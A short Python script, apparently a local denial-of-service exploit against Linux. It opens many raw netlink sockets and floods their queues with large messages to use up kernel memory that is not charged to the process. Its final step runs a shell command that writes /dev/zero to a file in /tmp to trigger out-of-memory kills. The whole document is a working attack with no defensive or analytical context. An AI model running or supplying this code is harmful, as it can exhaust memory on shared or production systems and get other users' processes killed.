# Fills queues of netlink, which are charged to nobody, until there is hardly any memory, and then has something killed.
import os, resource, socket

resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
kept = []


def free():
    return [int(line.split()[1]) for line in open('/proc/meminfo') if 'MemAvail' in line][0]


try:
    while free() > 12_000:
        one = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2)
        one.bind((0, 0))
        one.set_inheritable(True)
        kept.append(one)
        try:
            while True:
                one.sendto(bytes(200_000), 0x40, one.getsockname())
        except BlockingIOError:
            pass
except OSError:
    pass
os.execv('/bin/sh', ['sh', '-c', 'cat /dev/zero > /tmp/x'])
